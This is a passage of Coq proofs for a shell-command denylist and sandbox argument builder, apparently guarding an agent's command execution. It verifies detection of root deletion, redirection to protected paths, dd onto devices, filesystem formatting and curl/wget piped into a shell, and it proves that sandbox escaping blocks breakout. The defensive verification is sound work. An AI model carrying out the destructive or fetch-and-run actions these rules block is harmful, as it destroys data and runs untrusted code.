    + intros [[[H|H]|[_ H]]|(q & Hq & H)].
      1,2: exists p; split; [by left|tauto].
      * destruct rest as [|q rest]; [done|]. exists q. split; [right; by left|by apply orb_true_iff in H].
      * exists q. split; [by right|done].
    + intros (q & [->|Hq]%elem_of_cons & H); [tauto|]. right. by exists q.
Qed.

Lemma has_rm_rf_root_iff toks : rm_rf_root_in toks = true <-> removes_root toks.
Proof.
  induction toks as [|t rest IH]; cbn [rm_rf_root_in].
  - split; [done|]. by intros (pre & ? & ? & ? & ? & H & _); destruct pre.
  - rewrite orb_true_iff, IH, andb_true_iff, bool_decide_eq_true.
    destruct (rm_flags_split rest) as (flags & sep & paths & -> & Hf & Hs).
    rewrite (rm_flags_app _ _ _ _ _ Hf Hs). cbn [orb].
    rewrite !andb_true_iff, orb_true_iff, !asksb_spec, rm_paths_spec. unfold removes_root. split.
    + intros [(-> & (Hr & Hff) & p & Hp & Ht)|(pre & fs & sp & ps & p & -> & ?)].
      * by exists [], flags, sep, paths, p.
      * by exists (t :: pre), fs, sp, ps, p.
    + intros (pre & fs & sp & ps & p & H & Hfs & Hsp & Hr & Hff & Hp & Ht). destruct pre as [|x pre]; cbn [app] in H.
      * injection H as -> H. left. split; [done|].
        assert (rm_flags (flags ++ sep ++ paths) false false = rm_flags (fs ++ sp ++ ps) false false) as E by (by rewrite H).
        rewrite !rm_flags_app in E by done. injection E as E1 E2 ->. cbn [orb] in E1, E2.
        rewrite <- !asksb_spec in *. rewrite E2, <- orb_true_iff, E1, orb_true_iff. by split; [|exists p].
      * injection H as -> H. right. by exists pre, fs, sp, ps, p.
Qed.

(** *** Redirections *)

(** The operators that redirect output: both streams at once, or one of the
    four forms behind a descriptor. *)
Definition redirect_op (op : string) : Prop :=
  op ∈ ["&>>"; "&>"] \/
  exists fd o, op = fd +:+ o /\ str_all is_ascii_digit fd = true /\ o ∈ [">"; ">>"; ">|"; ">&"].

Lemma bare_op_no_digit o r : o ∈ [">"; ">>"; ">|"; ">&"] -> skip_while is_ascii_digit (o +:+ r) = o +:+ r.
Proof. rewrite !elem_of_cons. intros H. destruct_or! H; [by subst o..|by apply not_elem_of_nil in H]. Qed.

Lemma is_redirect_op_iff s : is_redirect_op_token s = true <-> redirect_op s.
Proof.
  unfold is_redirect_op_token, redirect_op. rewrite orb_true_iff, !bool_decide_eq_true. split.
  - intros [H|H]; [by left|right]. destruct (skip_while_split is_ascii_digit s) as (a & Ha & E).
    by exists a, (skip_while is_ascii_digit s).
  - intros [H|(fd & o & -> & Hfd & Ho)]; [by left|right]. rewrite skip_while_app by done.
    rewrite <- (str_app_nil o), bare_op_no_digit by done. by rewrite str_app_nil.
Qed.

(** A target that begins with no character of an operator. *)
Definition plain_target (target : string) : Prop :=
  exists c r, target = String c r /\ c <> ">"%char /\ c <> "|"%char /\ c <> "&"%char /\ is_ascii_digit c = false.

Lemma plain_redirect_spec op target : op ∈ [">"; ">>"; ">|"] -> plain_target target ->
  plain_redirect_target (op +:+ target) = Some target /\ strip_prefix ">&" (op +:+ target) = None.
Proof.
  intros Hop (c & r & -> & H1 & H2 & H3 & _).
  assert (Ascii.eqb ">" c = false /\ Ascii.eqb "|" c = false /\ Ascii.eqb "&" c = false) as (E1 & E2 & E3)
    by (split_and!; by apply Ascii.eqb_neq).
  rewrite !elem_of_cons in Hop. destruct_or! Hop; try (by apply not_elem_of_nil in Hop); subst op;
    rewrite !str_app_cons, str_nil_app; unfold plain_redirect_target; cbn [find_map strip_prefix];
    change (Ascii.eqb ">" "|") with false; change (Ascii.eqb "|" ">") with false; change (Ascii.eqb "&" ">") with false;
    change (Ascii.eqb "&" "|") with false; by rewrite ?Ascii.eqb_refl, ?E1, ?E2, ?E3.
Qed.

Lemma digits_no_amp fd o r p : str_all is_ascii_digit fd = true -> o ∈ [">"; ">>"; ">|"; ">&"] ->
  strip_prefix (String "&" p) ((fd +:+ o) +:+ r) = None.
Proof.
  intros Hfd Ho. destruct fd as [|d fd].
  - rewrite str_nil_app, !elem_of_cons in *. destruct_or! Ho; [by subst o..|by apply not_elem_of_nil in Ho].
  - cbn [str_all] in Hfd. apply andb_true_iff in Hfd as [Hd _]. rewrite !str_app_cons. cbn [strip_prefix].
    destruct (Ascii.eqb_spec "&" d) as [<-|]; done.
Qed.

Lemma glued_complete op target : redirect_op op -> plain_target target -> glued_redirect_target (op +:+ target) = Some target.
Proof.
  intros Hop Ht. pose proof Ht as (c & r & E & H1 & H2 & H3 & Hd). unfold glued_redirect_target.
  destruct Hop as [Hop|(fd & o & -> & Hfd & Ho)].
  - apply Ascii.eqb_neq in H1. rewrite Ascii.eqb_sym in H1. rewrite !elem_of_cons in Hop. destruct_or! Hop; try (by apply not_elem_of_nil in Hop); subst op.
    + rewrite strip_prefix_app, E. done.
    + rewrite (strip_prefix_app "&>"), E. rewrite !str_app_cons, str_nil_app. cbn [strip_prefix].
      rewrite !Ascii.eqb_refl, H1. done.
  - rewrite !digits_no_amp by done. rewrite str_app_assoc, skip_while_app, bare_op_no_digit by done.
    destruct (decide (o = ">&")) as [->|Hne].
    + rewrite strip_prefix_app, E. cbn [str_is_empty str_all negb andb]. by rewrite Hd.
    + destruct (plain_redirect_spec o target) as [-> ->]; [|done..]. rewrite !elem_of_cons in *. tauto.
Qed.

Lemma non_empty_some s t : non_empty s = Some t -> s = t /\ t <> "".
Proof. unfold non_empty. destruct s; [done|]. by intros [= <-]. Qed.

Lemma glued_sound t target : glued_redirect_target t = Some target -> exists op, redirect_op op /\ t = op +:+ target.
Proof.
  unfold glued_redirect_target. destruct (strip_prefix "&>>" t) as [rest|] eqn:E1.
  { intros [-> _]%non_empty_some. exists "&>>". split; [left; set_solver|by apply strip_prefix_Some]. }
  destruct (strip_prefix "&>" t) as [rest|] eqn:E2.
  { intros [-> _]%non_empty_some. exists "&>". split; [left; set_solver|by apply strip_prefix_Some]. }
  destruct (skip_while_split is_ascii_digit t) as (fd & Hfd & Ht). set (u := skip_while is_ascii_digit t) in *.
  assert (forall o, o ∈ [">"; ">>"; ">|"; ">&"] -> u = o +:+ target -> exists op, redirect_op op /\ t = op +:+ target) as Hdone.
  { intros o Ho Hu. exists (fd +:+ o). split; [right; by exists fd, o|]. by rewrite str_app_assoc, <- Hu. }
  assert (plain_redirect_target u = Some target -> exists op, redirect_op op /\ t = op +:+ target) as Hplain.
  { unfold plain_redirect_target. cbn [find_map].
    destruct (strip_prefix ">>" u ≫= non_empty) eqn:Ea;
      [|destruct (strip_prefix ">|" u ≫= non_empty) eqn:Eb; [|destruct (strip_prefix ">" u ≫= non_empty) eqn:Ec; [|done]]];
      intros [= ->];
      match goal with H : strip_prefix ?o u ≫= _ = Some _ |- _ =>
        apply bind_Some in H as (x & Hx & [-> _]%non_empty_some); apply (Hdone o); [set_solver|by apply strip_prefix_Some] end. }
  destruct (strip_prefix ">&" u) as [rest|] eqn:E3; [|exact Hplain].
  case_match; [|exact Hplain]. intros [= ->]. apply (Hdone ">&"); [set_solver|by apply strip_prefix_Some].
Qed.

Lemma guarded_plain target : guarded_target target -> plain_target target.
Proof.
  intros [H _]. unfold target_path in H. unfold plain_target.
  assert (forall s, starts_with "/" s = true -> exists r, s = String "/" r) as Hslash.
  { intros s [r ->]%starts_with_spec. by exists r. }
  destruct target as [|c r]; [done|].
  destruct (is_quote c) eqn:Hq.
  { unfold is_quote in Hq. apply orb_true_iff in Hq as [Hq|Hq]; apply Ascii.eqb_eq in Hq as ->; by do 2 eexists. }
  unfold trim_matches in H. cbn [skip_while] in H. rewrite Hq in H. cbn [trim_end_matches] in H.
  rewrite Hq in H. cbn [andb] in H. exists c, r. split; [done|].
  destruct (strip_prefix "./" _) as [u|] eqn:E; cbn [default] in H.
  - apply strip_prefix_Some in E. rewrite str_app_cons in E. by injection E as -> _.
  - apply Hslash in H as [u H]. by injection H as -> _.
Qed.

(** A redirection to a guarded target, in two words or in one. *)
Definition redirects_to_guarded (toks : list string) : Prop :=
  exists op target, redirect_op op /\ guarded_target target /\
    ((exists pre post, toks = pre ++ op :: target :: post) \/ op +:+ target ∈ toks).

Lemma op_all_marks op : redirect_op op -> forall a t, op = a +:+ t -> ~ plain_target t.
Proof.
  intros Hop a t -> (c & r & -> & H1 & H2 & H3 & Hd).
  assert (str_all (fun c => is_ascii_digit c || Ascii.eqb c ">" || Ascii.eqb c "|" || Ascii.eqb c "&") (a +:+ String c r) = true) as H.
  { destruct Hop as [Hop|(fd & o & -> & Hfd & Ho)].
    - rewrite !elem_of_cons in Hop. destruct_or! Hop; [by rewrite Hop..|by apply not_elem_of_nil in Hop].
    - rewrite str_all_app. apply andb_true_iff. split.
      + revert Hfd. apply str_all_impl. intros x ->. done.
      + rewrite !elem_of_cons in Ho. destruct_or! Ho; [by subst o..|by apply not_elem_of_nil in Ho]. }
  rewrite str_all_app in H. apply andb_true_iff in H as [_ H]. cbn [str_all] in H. rewrite Hd in H.
  apply Ascii.eqb_neq in H1, H2, H3. by rewrite H1, H2, H3 in H.
Qed.

Lemma redirected_iff toks : is_Some (redirected_in toks) <-> redirects_to_guarded toks.
Proof.
  unfold redirects_to_guarded. induction toks as [|t rest IH]; cbn [redirected_in].
  - split; [by intros [? ?]|]. intros (op & tg & _ & _ & [(pre & post & H)|H]); [by destruct pre|by apply not_elem_of_nil in H].
  - assert (forall o k, is_Some (or_else o k) <-> is_Some o \/ is_Some (k : option DenyReason)) as Hor.
    { intros [x|] k; cbn [or_else]; split; intros; [by left|by eexists|by right|]. destruct H as [[? ?]|?]; done. }
    rewrite Hor, IH. split.
    + intros [H|(op & tg & Hop & Hg & H)].
      * destruct (is_redirect_op_token t) eqn:Et.
        -- destruct rest as [|tg rest]; [by destruct H|]. exists t, tg. split_and!; [by apply is_redirect_op_iff|by apply match_sensitive_iff|].
           left. by exists [], rest.
        -- unfold try_split_glued_redirect in H. destruct (glued_redirect_target t) as [tg|] eqn:Eg; [|by destruct H].
           cbn in H. destruct (glued_sound _ _ Eg) as (op & Hop & ->). exists op, tg.
           split_and!; [done|by apply match_sensitive_iff|right; by left].
      * exists op, tg. split_and!; [done..|]. destruct H as [(pre & post & ->)|H]; [left; by exists (t :: pre), post|right; by right].
    + intros (op & tg & Hop & Hg & [(pre & post & H)|H]).
      * destruct pre as [|x pre]; injection H as -> ->.
        -- left. apply is_redirect_op_iff in Hop. rewrite Hop. by apply match_sensitive_iff.
        -- right. exists op, tg. split_and!; [done..|]. left. by exists pre, post.
      * apply elem_of_cons in H as [<-|H]; [|right; exists op, tg; split_and!; [done..|by right]].
        left. pose proof (guarded_plain _ Hg) as Hp.
        destruct (is_redirect_op_token (op +:+ tg)) eqn:Et.
        { apply is_redirect_op_iff in Et. by destruct (op_all_marks _ Et op tg eq_refl). }
        unfold try_split_glued_redirect. rewrite glued_complete by done. by apply match_sensitive_iff.
Qed.

(** *** The other patterns *)

(** Some word of the command, with the words after it, has the property. *)
Definition some_word (p : string -> list string -> Prop) (toks : list string) : Prop :=
  exists pre t rest, toks = pre ++ t :: rest /\ p t rest.

Lemma some_word_nil p : ~ some_word p [].
Proof. intros (pre & ? & ? & H & _). by destruct pre. Qed.
Lemma some_word_cons p t rest : some_word p (t :: rest) <-> p t rest \/ some_word p rest.
Proof.
  unfold some_word. split.
  - intros ([|x pre] & u & more & H & Hp); injection H as -> ->; [by left|right; by exists pre, u, more].
  - intros [H|(pre & u & more & -> & H)]; [by exists [], t, rest|by exists (t :: pre), u, more].
Qed.

Definition dd_to_device (t : string) (rest : list string) : Prop :=
  t = "dd" /\ exists dev, ("of=/dev/" +:+ dev) ∈ rest.

Lemma dd_to_dev_iff toks : dd_to_dev_in toks = true <-> some_word dd_to_device toks.
Proof.
  induction toks as [|t rest IH]; cbn [dd_to_dev_in]; [split; [done|by intros ?%some_word_nil]|].
  rewrite some_word_cons, orb_true_iff, IH, andb_true_iff, bool_decide_eq_true, existsb_elem.
  unfold dd_to_device, writes_to_dev. apply or_iff_compat_r, and_iff_compat_l. split.
  - intros (arg & Hin & H). destruct (strip_prefix "of=" arg) as [val|] eqn:E; [|done].
    apply strip_prefix_Some in E as ->. apply starts_with_spec in H as [dev ->]. by exists dev.
  - intros [dev Hin]. exists ("of=/dev/" +:+ dev). split; [done|].
    change ("of=/dev/" +:+ dev) with ("of=" +:+ ("/dev/" +:+ dev)). rewrite strip_prefix_app. apply starts_with_spec. by eexists.
Qed.

(** The name a word runs as: the last part of its path without the marks
    around it. *)
Definition runs_as (t : string) : string := trim_matches not_alphanumeric (basename t).

Definition formats_device (t : string) (rest : list string) : Prop :=
  runs_as t ∈ ["mkfs"; "mke2fs"; "wipefs"] \/ (exists r, runs_as t = "mkfs." +:+ r) \/
  runs_as t ∈ ["fdisk"; "sfdisk"; "sgdisk"] /\ exists dev more, rest = dev :: more /\ names_device dev = true.

Lemma mkfs_or_fdisk_iff toks : mkfs_or_fdisk_in toks = true <-> some_word formats_device toks.
Proof.
  induction toks as [|t rest IH]; cbn [mkfs_or_fdisk_in]; [split; [done|by intros ?%some_word_nil]|].
  rewrite some_word_cons. fold (runs_as t). rewrite !orb_true_iff, IH, andb_true_iff, !bool_decide_eq_true, starts_with_spec.
  apply or_iff_compat_r. unfold formats_device. rewrite !elem_of_cons.
  assert ((match rest with next_raw :: _ => names_device next_raw | [] => false end = true) <->
    exists dev more, rest = dev :: more /\ names_device dev = true) as ->.
  { destruct rest as [|n more]; split; [done|by intros (? & ? & ? & _)|intros H; by exists n, more|].
    by intros (? & ? & [= -> ->] & H). }
  tauto.
Qed.

(** What a word with a pipe hands its input to: the rest of the word, the next
    word that is not passed on, or what follows the pipe at the word's end. *)
Definition piped_into (t : string) (rest : list string) (cmd : string) : Prop :=
  cmd <> "" /\ t = String "|" cmd \/
  t = "|" /\ (exists ws w more, rest = ws ++ w :: more /\ forallb passes_on ws = true /\ passes_on w = false /\ cmd = trim_pipes w) \/
  (exists before, t = before +:+ String "|" cmd /\ cmd <> "" /\ str_has "|" cmd = false /\
     last (String.list_ascii_of_string before) <> Some "|"%char).

Definition shell_behind_pipe (t : string) (rest : list string) : Prop :=
  t <> "||" /\ t <> "|&" /\ exists cmd, piped_into t rest cmd /\ is_shell_interp cmd = true.

Lemma skip_wrappers_head rest w : head (skip_wrappers rest) = Some w <->
  exists ws more, rest = ws ++ w :: more /\ forallb passes_on ws = true /\ passes_on w = false.
Proof.
  induction rest as [|x rest IH]; cbn [skip_wrappers].
  - split; [done|]. by intros ([|] & ? & ? & _).
  - destruct (passes_on x) eqn:Hx.
    + rewrite IH. split.
      * intros (ws & more & -> & H & Hw). exists (x :: ws), more. cbn [forallb]. by rewrite Hx.
      * intros ([|y ws] & more & E & H & Hw); injection E as -> ->; [by rewrite Hx in Hw|].
        cbn [forallb] in H. apply andb_true_iff in H as [_ H]. by exists ws, more.
    + split; [intros [= ->]; by exists [], rest|].
      intros ([|y ws] & more & E & H & Hw); injection E as -> ->; [done|]. cbn [forallb] in H. by rewrite Hx in H.
Qed.

Lemma rsplit_once_spec c s a b : rsplit_once c s = Some (a, b) <-> s = a +:+ String c b /\ str_has c b = false.
Proof.
  revert a b. induction s as [|x s IH]; intros a b; cbn [rsplit_once].
  { split; [done|]. intros [H _]. by destruct a. }
  destruct (rsplit_once c s) as [[a' b']|] eqn:E.
  - destruct (proj1 (IH a' b') eq_refl) as [Hs Hb]. split.
    + intros [= <- <-]. by rewrite Hs, str_app_cons.
    + intros [H Hb2]. destruct a as [|y a].
      * rewrite str_nil_app in H. injection H as -> <-. exfalso.
        rewrite Hs in Hb2.
        assert (forall z, str_has c (z +:+ String c b') = true) as Hz.
        { induction z as [|k z IHz]; [rewrite str_nil_app; cbn [str_has]; by rewrite Ascii.eqb_refl|].
          rewrite str_app_cons. cbn [str_has]. by rewrite IHz, orb_true_r. }
        by rewrite Hz in Hb2.
      * rewrite str_app_cons in H. injection H as -> H.
        pose proof (proj2 (IH a b) (conj H Hb2)) as H'. by injection H' as -> ->.
  - destruct (Ascii.eqb_spec x c) as [->|Hne].
    + split.
      * intros [= <- <-]. split; [done|]. destruct (str_has c s) eqn:Hs; [|done]. exfalso.
        assert (forall z, str_has c z = true -> rsplit_once c z <> None) as Hz.
        { induction z as [|k z IHz]; [done|]. cbn [str_has rsplit_once]. intros [Hk|Hk]%orb_true_iff.
          - apply Ascii.eqb_eq in Hk as ->. destruct (rsplit_once c z) as [[??]|]; [done|]. by rewrite Ascii.eqb_refl.
          - specialize (IHz Hk). by destruct (rsplit_once c z) as [[??]|]. }
        by apply (Hz s Hs).
      * intros [H Hb]. destruct a as [|y a].
        -- rewrite str_nil_app in H. by injection H as ->.
        -- rewrite str_app_cons in H. injection H as -> H. pose proof (proj2 (IH a b) (conj H Hb)) as H'; done.
    + split; [done|]. intros [H Hb]. destruct a as [|y a].
      * rewrite str_nil_app in H. by injection H as ? ?.
      * rewrite str_app_cons in H. injection H as -> H. pose proof (proj2 (IH a b) (conj H Hb)) as H'; done.
Qed.

Lemma extract_trailing_iff t cmd : extract_trailing_pipe_shell t = Some cmd <->
  exists before, t = before +:+ String "|" cmd /\ cmd <> "" /\ str_has "|" cmd = false /\
    last (String.list_ascii_of_string before) <> Some "|"%char.
Proof.
  unfold extract_trailing_pipe_shell. rewrite bind_Some. split.
  - intros ([before suffix] & E & H). apply rsplit_once_spec in E as [-> Hs]. case_bool_decide; [done|].
    apply non_empty_some in H as [-> Hne]. by exists before.
  - intros (before & -> & Hne & Hs & Hl). exists (before, cmd). split; [by apply rsplit_once_spec|].
    rewrite bool_decide_eq_false_2 by done. by destruct cmd.
Qed.

Lemma leading_candidate_iff t rest cmd : leading_candidate t rest = Some cmd <->
  cmd <> "" /\ t = String "|" cmd \/
  t = "|" /\ (exists ws w more, rest = ws ++ w :: more /\ forallb passes_on ws = true /\ passes_on w = false /\ cmd = trim_pipes w).
Proof.
  unfold leading_candidate. rewrite bind_Some. split.
  - intros (tail & E & H). apply strip_prefix_Some in E. rewrite str_app_cons, str_nil_app in E. subst t.
    destruct tail as [|c tail]; cbn [str_is_empty] in H.
    + right. split; [done|]. apply fmap_Some in H as (w & H & ->).
      apply skip_wrappers_head in H as (ws & more & ? & ? & ?). by exists ws, w, more.
    + injection H as <-. by left.
  - intros [[Hne ->]|(-> & ws & w & more & -> & H1 & H2 & ->)].
    + exists cmd. split; [apply (strip_prefix_app "|")|]. by destruct cmd.
    + exists "". split; [done|]. cbn [str_is_empty]. apply fmap_Some. exists w. split; [|done].
      apply skip_wrappers_head. by exists ws, more.
Qed.

Lemma pipe_shell_iff toks : pipe_shell_in toks = true <-> some_word shell_behind_pipe toks.
Proof.
  induction toks as [|t rest IH]; cbn [pipe_shell_in]; [split; [done|by intros ?%some_word_nil]|].
  rewrite some_word_cons. unfold shell_behind_pipe at 1. case_bool_decide as Hor.
  { rewrite IH. split; [by right|]. intros [(? & ? & _)|?]; [tauto|done]. }
  assert (forall o, match o with Some c => is_shell_interp c | None => false end = true <->
    exists cmd, o = Some cmd /\ is_shell_interp cmd = true) as Ho.
  { intros [c|]; split; [by exists c|by intros (? & [= ->] & ?)|done|by intros (? & ? & ?)]. }
  rewrite !orb_true_iff, !Ho, IH. apply or_iff_compat_r. split.
  - intros [(cmd & E & H)|(cmd & E & H)]; (split; [tauto|split; [tauto|exists cmd; split; [|done]]]).
    + apply leading_candidate_iff in E as [?|?]; [by left|by right; left].
    + apply extract_trailing_iff in E. by right; right.
  - intros (_ & _ & cmd & [H|[H|H]] & Hs).
    1,2: left; exists cmd; split; [apply leading_candidate_iff; tauto|done].
    right. exists cmd. split; [by apply extract_trailing_iff|done].
Qed.

Definition fetches_into_shell (toks : list string) : Prop :=
  (exists f, f ∈ toks /\ runs_as f ∈ ["curl"; "wget"; "busybox"]) /\ some_word shell_behind_pipe toks.

(** *** The verdict *)

(** Joining the words by single blanks keeps the words. *)
Lemma split_normalized cmd : split_whitespace (join " " (split_whitespace cmd)) = split_whitespace cmd.
Proof.
  rewrite <- (str_app_nil (join _ _)). apply split_join; [|done]. by apply words_from_words.
Qed.

(** C30: A command passes the denylist exactly when its words show none of the five
    patterns: a recursive and forced removal that names a root, a redirection
    to a guarded target, [dd] onto a device, a command that formats a file
    system, and a fetch in a command with a shell behind a pipe *)
Theorem inspect_allows_iff cmd :
  let toks := split_whitespace cmd in
  inspect_shell_command cmd = Allow <->
  ~ removes_root toks /\ ~ redirects_to_guarded toks /\ ~ some_word dd_to_device toks /\
  ~ some_word formats_device toks /\ ~ fetches_into_shell toks.
Proof.
  intros toks. unfold inspect_shell_command, has_rm_rf_root, redirected_to_sensitive, has_dd_to_dev, has_mkfs_or_fdisk,
    has_remote_pipe_shell, fetches_into_shell. rewrite split_normalized. fold toks.
  rewrite <- has_rm_rf_root_iff, <- redirected_iff, <- dd_to_dev_iff, <- mkfs_or_fdisk_iff, <- pipe_shell_iff.
  assert (existsb is_fetcher_token toks = true <-> exists f, f ∈ toks /\ runs_as f ∈ ["curl"; "wget"; "busybox"]) as <-.
  { rewrite existsb_elem. unfold is_fetcher_token. by setoid_rewrite bool_decide_eq_true. }
  destruct (rm_rf_root_in toks); [split; [done|intros (H & _); by destruct H]|].
  destruct (redirected_in toks) as [r|] eqn:E.
  { split; [done|]. intros (_ & H & _). destruct H. by eexists. }
  assert (~ is_Some (@None DenyReason)) by (by intros [? ?]).
  destruct (dd_to_dev_in toks), (mkfs_or_fdisk_in toks), (existsb is_fetcher_token toks), (pipe_shell_in toks);
    cbn; intuition congruence.
Qed.

Lemma redirected_reason toks r : redirected_in toks = Some r -> exists target root, r = Redirect target root.
Proof.
  assert (forall t r, match_sensitive_target t = Some r -> exists target root, r = Redirect target root) as Hm.
  { intros t r' H. unfold match_sensitive_target in H. apply fmap_Some in H as (root & _ & ->). by do 2 eexists. }
  induction toks as [|t rest IH]; [done|]. cbn [redirected_in].
  destruct (if is_redirect_op_token t then _ else _) as [r'|] eqn:E; cbn [or_else]; [|exact IH].
  intros [= <-]. destruct (is_redirect_op_token t).
  - destruct rest as [|u rest]; [done|]. by apply (Hm u).
  - unfold try_split_glued_redirect in E. apply bind_Some in E as (u & _ & E). by apply (Hm u).
Qed.

(** The reason of a denial is the first pattern the words show. *)
Lemma inspect_blames cmd reason : inspect_shell_command cmd = Deny reason ->
  let toks := split_whitespace cmd in
  match reason with
  | RmRfRoot => removes_root toks
  | Redirect _ _ => ~ removes_root toks /\ redirects_to_guarded toks
  | DdToDev => ~ removes_root toks /\ ~ redirects_to_guarded toks /\ some_word dd_to_device toks
  | FormatsFilesystem => ~ removes_root toks /\ ~ redirects_to_guarded toks /\ some_word formats_device toks
  | RemotePipeShell => ~ removes_root toks /\ ~ redirects_to_guarded toks /\ some_word shell_behind_pipe toks
  end.
Proof.
  intros H toks. revert H. unfold inspect_shell_command, has_rm_rf_root, redirected_to_sensitive, has_dd_to_dev,
    has_mkfs_or_fdisk, has_remote_pipe_shell. rewrite split_normalized. fold toks.
  assert (forall r, redirected_in toks = Some r -> exists target root, r = Redirect target root) as Hr
    by apply redirected_reason.
  pose proof (has_rm_rf_root_iff toks) as H1. pose proof (redirected_iff toks) as H2. pose proof (dd_to_dev_iff toks) as H3.
  pose proof (mkfs_or_fdisk_iff toks) as H4. pose proof (pipe_shell_iff toks) as H5.
  destruct (rm_rf_root_in toks).
  { intros [= <-]. by apply H1. }
  destruct (redirected_in toks) as [r|].
  { destruct (Hr r eq_refl) as (target & root & ->). intros [= <-]. split; [by intros ?%H1|]. apply H2. by eexists. }
  assert (~ removes_root toks /\ ~ redirects_to_guarded toks) as [Hn1 Hn2].
  { split; [by intros ?%H1|]. intros [? ?]%H2. done. }
  destruct (dd_to_dev_in toks), (mkfs_or_fdisk_in toks), (existsb is_fetcher_token toks), (pipe_shell_in toks);
    intros [= <-]; split_and!; try done; first [by apply H3 | by apply H4 | by apply H5].
Qed.

(** ** The sandbox *)

(** The string literal of a profile: a backslash keeps the next character, a
    quote ends it.  What is read, and what follows. *)
Fixpoint sbpl_literal (s : string) : option (string * string) :=
  match s with
  | EmptyString => None
  | String c r =>
      if Ascii.eqb c quote then Some ("", r)
      else if Ascii.eqb c backslash then
        match r with
        | EmptyString => None
        | String d r' => '(v, rest) ← sbpl_literal r'; Some (String d v, rest)
        end
      else '(v, rest) ← sbpl_literal r; Some (String c v, rest)
  end.

(** What a byte of a path reads back as: the bytes 0 to 8, 10 to 31 and 127 as a
    question mark, every other one as itself. *)
Definition reads_back_as (c : ascii) : ascii :=
  let n := Ascii.nat_of_ascii c in
  if bool_decide (n <= 8 \/ 10 <= n <= 31 \/ n = 127)%nat then "?"%char else c.
Lemma control_reads_back c : (if is_control c then "?"%char else c) = reads_back_as c.
Proof. destruct c as [[] [] [] [] [] [] [] []]; reflexivity. Qed.

(** C33: no path breaks out of its clause: the literal that is written ends where
    it was closed and reads back byte for byte as the path, but for the control
    bytes 0 to 8, 10 to 31 and 127, each of which reads back as a question
    mark; and it holds no line feed *)
Theorem sbpl_no_breakout path rest :
  exists value, sbpl_literal (sbpl_escape_path path +:+ String quote rest) = Some (value, rest) /\
    String.length value = String.length path /\
    (forall i c, String.get i path = Some c -> String.get i value = Some (reads_back_as c)) /\
    str_has newline (sbpl_escape_path path) = false.
Proof.
  induction path as [|c path (value & IH & IHl & IHc & IHn)].
  { exists "". split_and!; [done..|]. done. }
  exists (String (reads_back_as c) value). cbn [sbpl_escape_path String.length]. split; [|split; [by rewrite IHl|split]].
  2: { intros [|i] d; cbn [String.get]; [by intros [= <-]|apply IHc]. }
  2: { rewrite str_has_app, IHn, orb_false_r.
       destruct c as [[] [] [] [] [] [] [] []]; reflexivity. }
  rewrite <- control_reads_back.
  destruct (Ascii.eqb_spec c backslash) as [->|H1]; [|destruct (Ascii.eqb_spec c quote) as [->|H2]; [|destruct (is_control c) eqn:Hc]];
    rewrite str_app_assoc, !str_app_cons, str_nil_app; cbn [sbpl_literal].
  - change (Ascii.eqb backslash quote) with false. rewrite Ascii.eqb_refl. cbn beta iota. by rewrite IH.
  - change (Ascii.eqb backslash quote) with false. rewrite Ascii.eqb_refl. cbn beta iota. by rewrite IH.
  - by rewrite IH.
  - apply Ascii.eqb_neq in H1, H2. by rewrite H1, H2, IH.
Qed.

(** *** The command line of bubblewrap

    The options as bubblewrap reads them, and how each is written. *)
Inductive BwrapOption :=
  | Tmpfs (dst : string) | UnsharePid | Proc (dst : string) | Dev (dst : string) | NewSession | ClearEnv
  | SetEnv (var value : string) | RoBind (src dst : string) | Bind (src dst : string) | Chdir (dir : string)
  | DieWithParent | UnshareNet.

Definition render (o : BwrapOption) : list string :=
  match o with
  | Tmpfs d => ["--tmpfs"; d] | UnsharePid => ["--unshare-pid"] | Proc d => ["--proc"; d] | Dev d => ["--dev"; d]
  | NewSession => ["--new-session"] | ClearEnv => ["--clearenv"] | SetEnv k v => ["--setenv"; k; v]
  | RoBind s d => ["--ro-bind"; s; d] | Bind s d => ["--bind"; s; d] | Chdir d => ["--chdir"; d]
  | DieWithParent => ["--die-with-parent"] | UnshareNet => ["--unshare-net"]
  end.

Definition bwrap_options (env : string -> option string) (cwd : string) (opts : LinuxBubblewrapProfileOptions) :
    list BwrapOption :=
  [Tmpfs "/"; UnsharePid; Proc "/proc"; Dev "/dev"; NewSession; ClearEnv]
  ++ map (fun '(var, def) => SetEnv var (default def (env var))) ENV_ALLOWLIST
  ++ [RoBind "/usr" "/usr"; RoBind "/bin" "/bin"; RoBind "/lib" "/lib"; RoBind "/etc" "/etc"; Bind cwd cwd; Chdir cwd;
      DieWithParent]
  ++ (if bw_allow_tmp opts then [Tmpfs "/tmp"] else [])
  ++ (if bw_allow_home_read opts then [RoBind "/home" "/home"] else [])
  ++ (if bw_unshare_net opts then [UnshareNet] else []).

(** The words before the separator are the options, whatever the command, the
    directory and the environment say; the only place that can be written
    through to the host is the working directory; the environment holds the
    four variables and no others; and the network is cut off unless the
    options say otherwise *)
Theorem bwrap_argv_exact env cwd cmd opts :
  let os := bwrap_options env cwd opts in
  generate_bubblewrap_argv env cwd cmd opts = "/usr/bin/bwrap" :: concat (map render os) ++ "--" :: login_shell cmd /\
  (forall src dst, Bind src dst ∈ os <-> src = cwd /\ dst = cwd) /\
  (forall k v, SetEnv k v ∈ os -> k ∈ ["PATH"; "HOME"; "LANG"; "TERM"]) /\
  (UnshareNet ∈ os <-> bw_unshare_net opts = true) /\
  (RoBind "/home" "/home" ∈ os <-> bw_allow_home_read opts = true).
Proof.
  destruct opts as [un tmp home].
  assert (forall (p : BwrapOption -> bool) o l, filterb p (bwrap_options env cwd (mkBwrapOptions un tmp home)) = l ->
    p o = true -> (o ∈ bwrap_options env cwd (mkBwrapOptions un tmp home) <-> o ∈ l)) as Hf.
  { intros p o l <- Hp. rewrite elem_of_filterb. tauto. }
  split_and!.
  - by destruct un, tmp, home.
  - intros src dst. rewrite (Hf (fun o => match o with Bind _ _ => true | _ => false end) _ [Bind cwd cwd]); [|by destruct un, tmp, home|done].
    rewrite list_elem_of_singleton. split; [by intros [= -> ->]|by intros [-> ->]].
  - intros k v. rewrite (Hf (fun o => match o with SetEnv _ _ => true | _ => false end) _
      (map (fun '(var, def) => SetEnv var (default def (env var))) ENV_ALLOWLIST)); [|by destruct un, tmp, home|done].
    intros ([var def] & [= -> ->] & Hin)%list_elem_of_fmap. apply (list_elem_of_fmap_2 fst) in Hin. exact Hin.
  - rewrite (Hf (fun o => match o with UnshareNet => true | _ => false end) _ (if un then [UnshareNet] else []));
      [|by destruct un, tmp, home|done]. cbn. destruct un; [rewrite list_elem_of_singleton; done|].
    split; [by intros ?%not_elem_of_nil|done].
  - rewrite (Hf (fun o => match o with RoBind s _ => String.eqb s "/home" | _ => false end) _
